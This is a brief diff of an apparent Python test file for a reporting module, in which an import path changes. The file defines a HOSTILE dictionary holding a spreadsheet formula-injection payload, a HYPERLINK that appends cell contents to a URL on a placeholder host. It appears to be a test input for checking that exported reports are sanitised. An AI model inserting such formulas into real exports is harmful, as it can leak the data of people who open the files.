@@ -20,7 +20,7 @@ import psycopg
 import pytest
 from psycopg import sql
 
-from sage_sync.lifecycle import report
+from sage_sync.reporting import report
 
 HOSTILE = {
     "=": '=HYPERLINK("http://x.invalid/?"&A1,"Click")',
